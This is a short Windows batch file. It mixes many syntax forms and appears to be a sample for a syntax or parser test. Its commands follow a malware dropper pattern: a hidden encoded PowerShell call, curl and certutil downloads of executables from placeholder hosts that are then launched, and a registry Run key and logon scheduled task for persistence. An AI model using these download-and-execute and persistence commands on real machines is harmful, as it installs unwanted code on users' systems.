@echo off
:: comment
rem foo & bar
set "X=http://a.example/x.exe"
set Y=%X%^&z
if not exist "%TEMP%\x.exe" (
  powershell -NoP -w hidden -enc JABhAD0AMQA= >nul 2>&1
  curl -o %TEMP%\x.exe %X% && start "" /b "%TEMP%\x.exe"
) else (
  echo done
)
for %%i in (a b "c d") do echo %%i>>%APPDATA%\log.txt
cmd /c "reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b /f"
if "%1"=="x" goto end
certutil -urlcache -split -f http://b.example/y.exe y.exe & y.exe
%Y:~0,3% !X!
call :foo 1
:end
schtasks /create /tn A /tr "%TEMP%\x.exe" /sc onlogon | findstr ok
